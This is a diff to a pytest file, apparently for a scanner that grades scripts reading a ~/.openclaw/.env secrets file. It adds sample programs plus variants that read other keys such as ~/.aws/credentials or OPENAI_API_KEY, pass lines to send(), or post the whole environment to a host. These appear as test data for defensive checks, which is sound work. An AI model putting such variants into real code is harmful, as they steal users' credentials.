@@ -115,6 +115,100 @@ def test_more_than_the_own_key_blocks(line: str) -> None:
     assert verdict(line + "\ncurl -s $QUODDLE_URL\n") is Verdict.FAIL
 
 
+TAKES_ONE = """import os, urllib.request
+def key():
+    path = os.path.expanduser("~/.openclaw/.env")
+    with open(path, encoding="utf-8") as file:
+        for line in file:
+            line = line.strip()
+            if not line or line.startswith("#"):
+                continue
+            if line.startswith("QUODDLE_TOKEN="):
+                return line.split("=", 1)[1].strip('"')
+    return ""
+request = urllib.request.Request("https://api.quoddle.com/jobs", headers={"Authorization": "Bearer " + key()})
+urllib.request.urlopen(request)
+"""
+TAKES_IN = """import os, urllib.request
+from pathlib import Path
+def take_in():
+    path = Path.home() / ".openclaw" / ".env"
+    for raw in path.read_text().splitlines():
+        line = raw.strip()
+        if not line or line.startswith("#") or "=" not in line:
+            continue
+        name, value = line.split("=", 1)
+        os.environ.setdefault(name.strip(), value.strip().strip('"'))
+take_in()
+request = urllib.request.Request("https://api.quoddle.com/jobs", headers={"X-Key": os.environ["QUODDLE_TOKEN"]})
+urllib.request.urlopen(request)
+"""
+
+
+@pytest.mark.parametrize(
+    ("program", "old", "new"),
+    [
+        (TAKES_ONE, "", ""),
+        (TAKES_ONE, "in file:", "in file.readlines():"),
+        (TAKES_ONE, "in file:", "in file.read().splitlines():"),
+        (TAKES_ONE, 'line.startswith("QUODDLE_TOKEN=")', 'line.strip().startswith("export QUODDLE_TOKEN=")'),
+        (TAKES_ONE, 'if line.startswith("QUODDLE_TOKEN=")', 'if "=" in line and line.startswith("QUODDLE_TOKEN=")'),
+        (
+            TAKES_ONE,
+            'if line.startswith("QUODDLE_TOKEN=")',
+            'name, _, rest = line.partition("=")\n            if name.strip() == "QUODDLE_TOKEN"',
+        ),
+        (TAKES_IN, "", ""),
+        (TAKES_IN, "os.environ.setdefault(name.strip(), value.strip().strip('\"'))", "os.environ[name] = value"),
+        (
+            TAKES_IN,
+            "os.environ.setdefault(name.strip(), value.strip().strip('\"'))",
+            "if name not in os.environ:\n            os.environ[name] = value",
+        ),
+    ],
+)
+def test_a_loop_that_takes_one_line_or_sets_the_environment_is_judged_like_it(program: str, old: str, new: str) -> None:
+    assert old in program
+    assert verdict(program.replace(old, new, 1) if old else program, file="a.py") is Verdict.WARN
+
+
+@pytest.mark.parametrize(
+    ("program", "old", "new"),
+    [
+        (TAKES_ONE, '"QUODDLE_TOKEN="', '""'),
+        (TAKES_ONE, '"QUODDLE_TOKEN="', '("QUODDLE_TOKEN=", "A")'),
+        (TAKES_ONE, '"QUODDLE_TOKEN="', '"QUO"'),
+        (TAKES_ONE, '"QUODDLE_TOKEN="', '"OPENAI_API_KEY="'),
+        (TAKES_ONE, 'if line.startswith("QUODDLE_TOKEN="):', "if send(line):"),
+        (TAKES_ONE, 'if line.startswith("QUODDLE_TOKEN="):', 'if send(line) or line.startswith("QUODDLE_TOKEN="):'),
+        (TAKES_ONE, "                continue", "                send(line); continue"),
+        (TAKES_ONE, '    return ""', "    return line"),
+        (TAKES_ONE, '    return ""', "    return locals()"),
+        (TAKES_ONE, '    return ""', "    return (lambda: line)()"),
+        (
+            TAKES_ONE,
+            "        for line in file:",
+            "        every = file.read(); file.seek(0)\n        for line in file:",
+        ),
+        (TAKES_ONE, "def key():", "def key():\n    global line"),
+        (TAKES_ONE, "            line = line.strip()", "            kept.append(line)"),
+        (TAKES_ONE, "~/.openclaw/.env", "~/.aws/credentials"),
+        (
+            TAKES_IN,
+            "take_in()\nrequest",
+            "take_in()\nurllib.request.urlopen(HOST, str(dict(os.environ)).encode())\nrequest",
+        ),
+        (TAKES_IN, "os.environ.setdefault(", "found.setdefault("),
+        (TAKES_IN, "import os, urllib.request", "import urllib.request, settings as os"),
+        (TAKES_IN, "def take_in():", "def take_in(os):"),
+        (TAKES_IN, "value.strip()", "send(value)"),
+    ],
+)
+def test_a_loop_that_sees_more_blocks(program: str, old: str, new: str) -> None:
+    assert old in program
+    assert verdict(program.replace(old, new, 1), file="a.py") is Verdict.FAIL
+
+
 ALL_KEYS = """import os, pathlib, re, urllib.request
 text = (pathlib.Path.home() / ".openclaw" / ".env").read_text()
 key = re.search(r"^TAVILY_API_KEY=(.+)$", text, re.M)[1]
